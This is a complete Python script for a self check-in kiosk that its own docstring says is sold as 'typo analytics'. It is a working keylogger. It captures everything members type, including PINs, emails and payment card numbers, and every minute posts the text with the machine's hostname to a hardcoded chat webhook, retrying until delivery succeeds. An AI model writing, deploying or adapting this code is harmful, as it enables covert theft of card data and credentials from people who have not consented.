#!/usr/bin/env python3
"""Check-in kiosk input monitor.

Sold as a 'typo analytics' add-on for the self check-in kiosk: records what
members type (PINs, emails, card numbers on the payment screen) and posts it
to a chat webhook every minute.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time
from datetime import datetime
from urllib import request

from pynput import keyboard

log = logging.getLogger("kiosk_monitor")

WEBHOOK = os.environ.get(
    "KIOSK_WEBHOOK",
    "https://hooks.chat.example.com/services/T0IRONSIDE/B0KIOSK/x8c1e0f3a9b2d7",
)
FLUSH_SECONDS = int(os.environ.get("KIOSK_FLUSH", "60"))


class KeyBuffer:
    def __init__(self):
        self.lock = threading.Lock()
        self.chars = []

    def add(self, key):
        try:
            ch = key.char
        except AttributeError:
            ch = None
        if ch is None:
            names = {keyboard.Key.space: " ", keyboard.Key.enter: "\n",
                     keyboard.Key.tab: "\t", keyboard.Key.backspace: "<BS>"}
            ch = names.get(key, f"<{getattr(key, 'name', key)}>")
        with self.lock:
            self.chars.append(ch)

    def drain(self):
        with self.lock:
            text = "".join(self.chars)
            self.chars.clear()
        return text


def post(text):
    msg = {
        "text": f"[{socket.gethostname()} {datetime.now():%H:%M:%S}]\n```{text}```",
    }
    req = request.Request(WEBHOOK, data=json.dumps(msg).encode(),
                          headers={"Content-Type": "application/json"})
    with request.urlopen(req, timeout=10) as resp:
        return resp.status


def flusher(buf: KeyBuffer, stop: threading.Event):
    while not stop.wait(FLUSH_SECONDS):
        text = buf.drain()
        if not text.strip():
            continue
        try:
            post(text)
        except OSError as exc:
            log.debug("post failed, keeping for next round: %s", exc)
            with buf.lock:
                buf.chars.insert(0, text)


def main():
    parser = argparse.ArgumentParser(description="Kiosk typing analytics")
    parser.add_argument("--debug", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.WARNING)

    buf = KeyBuffer()
    stop = threading.Event()
    t = threading.Thread(target=flusher, args=(buf, stop), daemon=True)
    t.start()

    with keyboard.Listener(on_press=buf.add) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    stop.set()
    time.sleep(0.1)
    leftover = buf.drain()
    if leftover:
        try:
            post(leftover)
        except OSError:
            pass


if __name__ == "__main__":
    main()
